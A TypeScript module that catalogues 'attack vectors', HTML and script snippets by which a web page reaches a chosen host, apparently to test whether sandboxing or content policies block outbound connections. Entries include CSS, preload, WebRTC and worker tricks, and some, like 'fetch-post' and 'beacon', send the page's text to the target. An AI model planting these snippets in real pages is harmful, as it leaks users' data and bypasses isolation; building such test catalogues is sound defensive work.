/** A target that a page tries to reach. */
export interface Target {
  /** As in a URL. */
  readonly host: string;
  readonly port: number;
  /** "http" by default. */
  readonly scheme?: 'http' | 'https' | undefined;
  /** An address that redirects to it, in place of its own. */
  readonly redirectVia?: string | undefined;
}

/** One escape to a target: HTML (it begins with "<") or a script, which the page inserts into itself at run time. */
export type AttackVector = (target: Target) => string;

const http = ({ host, port, scheme = 'http', redirectVia }: Target, path = ''): string =>
  redirectVia ?? `${scheme}://${host}:${port}/${path}`;
const https = ({ host, port }: Target, path = ''): string => `https://${host}:${port}/${path}`;
const link =
  (rel: string, more = ''): AttackVector =>
  (target) =>
    `<link rel="${rel}" href="${http(target, 'x')}" ${more}>`;
const css =
  (style: (url: string) => string): AttackVector =>
  (target) =>
    `<style>${style(http(target, 'x'))}</style>`;
const speculation =
  (rules: (url: string) => object): AttackVector =>
  (target) =>
    `<script type="speculationrules">${JSON.stringify(rules(http(target, 'x')))}</script>`;
/** A connection that gathers its own addresses through these servers. */
const rtc =
  (server: (target: Target) => object): AttackVector =>
  (target) =>
    `
    const connection = new RTCPeerConnection({ iceServers: [${JSON.stringify(server(target))}] });
    connection.createDataChannel('x');
    connection.setLocalDescription();`;
const turn = (urls: string): object => ({ urls, username: 'a', credential: 'b' });
/** A connection to a peer that is claimed to be at the target. */
const peer =
  (protocol: 'udp' | 'tcp'): AttackVector =>
  ({ host, port }) =>
    `
    const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
    a.createDataChannel('x');
    (async () => {
      await a.setLocalDescription();
      await b.setRemoteDescription(a.localDescription);
      await b.setLocalDescription();
      await a.setRemoteDescription(b.localDescription);
      await a.addIceCandidate({ sdpMid: '0', candidate:
        'candidate:1 1 ${protocol} 2122260223 ${host.replace(/^\[|\]$/g, '')} ${port} typ host${protocol === 'tcp' ? ' tcptype passive' : ''}' });
    })();`;

/** Every known escape that leaves the page in place, by name. They may use a part of the page with the id `far`. */
export const IN_PAGE_VECTORS: Readonly<Record<string, AttackVector>> = {
  'rules-prefetch': speculation((url) => ({ prefetch: [{ urls: [url], eagerness: 'immediate' }] })),
  'rules-prefetch-anonymous': speculation((url) => ({
    prefetch: [{ urls: [url], requires: ['anonymous-client-ip-when-cross-origin'] }],
  })),
  'rules-prerender': speculation((url) => ({ prerender: [{ urls: [url], eagerness: 'immediate' }] })),
  'rules-document': (target) =>
    `<a href="${http(target, 'x')}">x</a><script type="speculationrules">${JSON.stringify({
      prefetch: [{ where: { href_matches: http(target, '*') }, eagerness: 'immediate' }],
    })}</script>`,
  preconnect: link('preconnect'),
  'preconnect-cors': link('preconnect', 'crossorigin'),
  'dns-prefetch': link('dns-prefetch'),
  'dns-prefetch-on': (target) =>
    `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${http(target)}">x</a><link rel="dns-prefetch" href="${http(target)}">`,
  prefetch: link('prefetch'),
  'prefetch-document': link('prefetch', 'as="document"'),
  prerender: link('prerender'),
  next: link('next'),
  'preload-image': link('preload', 'as="image"'),
  'preload-script': link('preload', 'as="script"'),
  'preload-style': link('preload', 'as="style"'),
  'preload-font': link('preload', 'as="font" crossorigin'),
  'preload-fetch': link('preload', 'as="fetch"'),
  modulepreload: link('modulepreload'),
  icon: link('icon'),
  'apple-touch-icon': link('apple-touch-icon'),
  manifest: link('manifest'),
  'compression-dictionary': link('compression-dictionary'),
  stylesheet: link('stylesheet'),
  'alternate-stylesheet': link('alternate stylesheet', 'title="x"'),
  'css-import': css((url) => `@import url(${url});`),
  'css-background': css((url) => `#far { background: url(${url}) }`),
  'css-image-set': css((url) => `#far p { background: image-set("${url}" 1x) }`),
  'css-content': css((url) => `#far::after { content: url(${url}) }`),
  'css-border': css((url) => `#far { border: 1px solid; border-image: url(${url}) 1 }`),
  'css-mask': css((url) => `#far { mask: url(${url}) }`),
  'css-filter': css((url) => `#far { filter: url(${url}#f) }`),
  'css-shape': css((url) => `#far p { float: left; shape-outside: url(${url}) }`),
  'css-cursor': css((url) => `#far { cursor: url(${url}), auto }`),
  'css-list': css((url) => `#far p { display: list-item; list-style-image: url(${url}) }`),
  'css-font': css((url) => `@font-face { font-family: far; src: url(${url}) } #far { font-family: far }`),
  'font-face': (target) => `new FontFace('far2', 'url(${http(target, 'x')})').load().catch(() => 0)`,
  paint: (target) => `CSS.paintWorklet.addModule('${http(target, 'x.js')}').catch(() => 0)`,
  img: (target) => `<img src="${http(target, 'x')}">`,
  'img-srcset': (target) => `<img srcset="${http(target, 'x')} 1x">`,
  'img-attribution': (target) =>
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="${http(target, 'x')}">`,
  picture: (target) => `<picture><source srcset="${http(target, 'x')}"><img></picture>`,
  'input-image': (target) => `<input type="image" src="${http(target, 'x')}">`,
  'table-background': (target) => `<table background="${http(target, 'x')}"><tr><td>x</table>`,
  'svg-image': (target) => `<svg><image href="${http(target, 'x')}" width="1" height="1"/></svg>`,
  'svg-use': (target) => `<svg><use href="${http(target, 'x')}#x"/></svg>`,
  'svg-fe-image': (target) =>
    `<svg><filter id="far"><feImage href="${http(target, 'x')}"/></filter><rect filter="url(#far)" width="9" height="9"/></svg>`,
  'svg-script': (target) => `<svg><script href="${http(target, 'x')}"></script></svg>`,
  video: (target) => `<video src="${http(target, 'x')}" preload="auto"></video>`,
  'video-poster': (target) => `<video poster="${http(target, 'x')}"></video>`,
  audio: (target) => `<audio src="${http(target, 'x')}" preload="auto" autoplay></audio>`,
  track: (target) =>
    `<video src="data:video/mp4,"><track default kind="subtitles" src="${http(target, 'x')}"></video>`,
  object: (target) => `<object data="${http(target, 'x')}"></object>`,
  embed: (target) => `<embed src="${http(target, 'x')}">`,
  iframe: (target) => `<iframe src="${http(target, 'x')}"></iframe>`,
  'iframe-srcdoc': (target) => `<iframe srcdoc='<img src="${http(target, 'x')}">'></iframe>`,
  fencedframe: (target) =>
    `const frame = document.createElement('fencedframe'); frame.config = new FencedFrameConfig('${https(target)}'); document.body.append(frame)`,
  script: (target) => `<script src="${http(target, 'x.js')}"></script>`,
  'module-script': (target) => `<script type="module" src="${http(target, 'x.js')}"></script>`,
  import: (target) => `import('${http(target, 'x.js')}').catch(() => 0)`,
  worker: (target) => `new Worker('${http(target, 'x.js')}')`,
  'blob-worker': (target) =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('${http(target)}')"], { type: 'text/javascript' })))`,
  'data-worker': (target) => `new Worker("data:text/javascript,fetch('${http(target)}')")`,
  'shared-worker': (target) => `new SharedWorker("data:text/javascript,fetch('${http(target)}')")`,
  'service-worker': (target) => `navigator.serviceWorker.register('${http(target, 'x.js')}').catch(() => 0)`,
  fetch: (target) => `fetch('${http(target)}').catch(() => 0)`,
  'fetch-https': (target) => `fetch('${https(target)}').catch(() => 0)`,
  'fetch-post': (target) =>
    `fetch('${http(target)}', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => 0)`,
  'fetch-keepalive': (target) =>
    `fetch('${http(target)}', { keepalive: true, mode: 'no-cors' }).catch(() => 0)`,
  'fetch-later': (target) => `fetchLater('${https(target)}', { activateAfter: 0 })`,
  'fetch-userinfo': ({ host, port }) =>
    `const image = new Image(); image.src = 'http://a:b@' + '${host}:${port}/x'`,
  xhr: (target) => `const ask = new XMLHttpRequest(); ask.open('GET', '${http(target)}'); ask.send()`,
  'xhr-sync': (target) =>
    `const ask = new XMLHttpRequest(); ask.open('GET', '${http(target)}', false); ask.send()`,
  'event-source': (target) => `new EventSource('${http(target)}')`,
  'web-socket': ({ host, port }) => `new WebSocket('ws://${host}:${port}/')`,
  'web-socket-tls': ({ host, port }) => `new WebSocket('wss://${host}:${port}/')`,
  'web-socket-stream': ({ host, port }) =>
    `new WebSocketStream('ws://${host}:${port}/').opened.catch(() => 0)`,
  'web-transport': (target) => `new WebTransport('${https(target)}').ready.catch(() => 0)`,
  'web-transport-hashes': (target) =>
    `new WebTransport('${https(target)}', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready.catch(() => 0)`,
  beacon: (target) => `navigator.sendBeacon('${http(target)}', document.body.innerText)`,
  ping: (target) =>
    `const a = document.createElement('a'); a.href = '#'; a.ping = '${http(target)}'; document.body.append(a); a.click()`,
  'rtc-stun': rtc(({ host, port }) => ({ urls: `stun:${host}:${port}` })),
  'rtc-turn-udp': rtc(({ host, port }) => turn(`turn:${host}:${port}?transport=udp`)),
  'rtc-turn-tcp': rtc(({ host, port }) => turn(`turn:${host}:${port}?transport=tcp`)),
  'rtc-turn-tls': rtc(({ host, port }) => turn(`turns:${host}:${port}?transport=tcp`)),
  'rtc-peer-udp': peer('udp'),
  'rtc-peer-tcp': peer('tcp'),
  payment: (target) =>
    `new PaymentRequest([{ supportedMethods: '${https(target, 'pay')}' }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).canMakePayment().catch(() => 0)`,
  'identity-provider': (target) =>
    `navigator.credentials.get({ identity: { providers: [{ configURL: '${https(target, 'x.json')}', clientId: 'x' }] } }).catch(() => 0)`,
  'related-origin': ({ host }) =>
    `navigator.credentials.get({ publicKey: { rpId: '${host}', challenge: new Uint8Array(16) } }).catch(() => 0)`,
  'interest-group': (target) =>
    `navigator.joinAdInterestGroup({ owner: '${https(target)}', name: 'x' }, 60).catch(() => 0)`,
  'private-token': (target) =>
    `fetch('${https(target)}', { privateToken: { version: 1, operation: 'token-request' } }).catch(() => 0)`,
  presentation: (target) => `new PresentationRequest('${https(target)}').getAvailability().catch(() => 0)`,
  'form-in-frame': (target) =>
    `<iframe name="far"></iframe><form target="far" method="post" action="${http(target)}"></form><script>document.querySelector('form[target=far]').submit()</script>`,
};

/** Escapes that would navigate the page away, if allowed. */
export const NAVIGATION_VECTORS: Readonly<Record<string, AttackVector>> = {
  location: (target) => `location.href = '${http(target)}'`,
  navigate: (target) => `navigation.navigate('${http(target)}').finished.catch(() => 0)`,
  refresh: (target) => `<meta http-equiv="refresh" content="0; url=${http(target)}">`,
  'window-open': (target) => `window.open('${http(target)}')`,
  anchor: (target) =>
    `const a = document.createElement('a'); a.href = '${http(target)}'; document.body.append(a); a.dispatchEvent(new MouseEvent('mousedown', { bubbles: true })); a.click()`,
  'anchor-blank': (target) =>
    `const a = document.createElement('a'); a.href = '${http(target)}'; a.target = '_blank'; document.body.append(a); a.click()`,
  form: (target) =>
    `const form = document.createElement('form'); form.action = '${http(target)}'; form.method = 'post'; document.body.append(form); form.submit()`,
  'unload-beacon': (target) =>
    `addEventListener('pagehide', () => navigator.sendBeacon('${http(target)}', 'x'))`,
};
